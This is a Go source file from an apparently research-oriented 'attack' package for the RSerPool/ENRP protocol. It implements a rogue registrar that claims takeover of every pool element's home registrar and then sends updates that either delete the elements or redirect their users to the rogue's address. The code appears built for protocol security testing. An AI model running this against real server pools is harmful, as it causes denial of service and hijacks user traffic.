package attack

import (
	"context"
	"net/netip"
	"time"

	"github.com/rserpool-go/rserpool/wire"
	"github.com/rserpool-go/rserpool/wire/enrpmsg"
)

const takeoverPause = 300 * time.Millisecond

// takeOver claims that the rogue has taken over the home registrar of every element, and then sends an update for each
// element as its new home.
func takeOver(update func(r *rogue, m *enrpmsg.HandleUpdate)) method {
	return func(ctx context.Context, w *work) error {
		var r rogue
		if err := w.joinAs(ctx, rogueID, &r); err != nil {
			return err
		}
		defer r.close()
		for {
			entries, err := r.fetchTable(ctx)
			if err == nil {
				err = r.takeOverAll(ctx, entries, update)
			}
			if err != nil {
				return w.endError(ctx, err)
			}
			if !Pause(ctx, takeoverPause) {
				return nil
			}
		}
	}
}

// removeElement makes an update the end of its element.
func removeElement(_ *rogue, m *enrpmsg.HandleUpdate) { m.Action = enrpmsg.DelPE }

// redirectElement makes an update send the users of its element to the rogue.
func redirectElement(r *rogue, m *enrpmsg.HandleUpdate) {
	m.Action = enrpmsg.AddPE
	m.PoolElement.UserTransport.Addrs = []netip.Addr{r.addr().Addr()}
	m.PoolElement.ASAPTransport = &m.PoolElement.UserTransport
}

// takeOverAll sends the messages about all elements.
func (r *rogue) takeOverAll(ctx context.Context, entries []enrpmsg.PoolEntry, update func(r *rogue, m *enrpmsg.HandleUpdate)) error {
	homes := map[wire.ServerID]bool{}
	for _, entry := range entries {
		for _, e := range entry.PoolElements {
			if !homes[e.HomeID] {
				homes[e.HomeID] = true
				if err := r.tell(ctx, &enrpmsg.TakeoverServer{IDs: r.ids(), TargetID: e.HomeID}); err != nil {
					return err
				}
				r.w.count(1)
			}
			e.HomeID = r.id
			m := &enrpmsg.HandleUpdate{IDs: r.ids(), PoolHandle: entry.PoolHandle, PoolElement: e}
			update(r, m)
			if err := r.tell(ctx, m); err != nil {
				return err
			}
			r.w.count(1)
		}
	}
	return nil
}
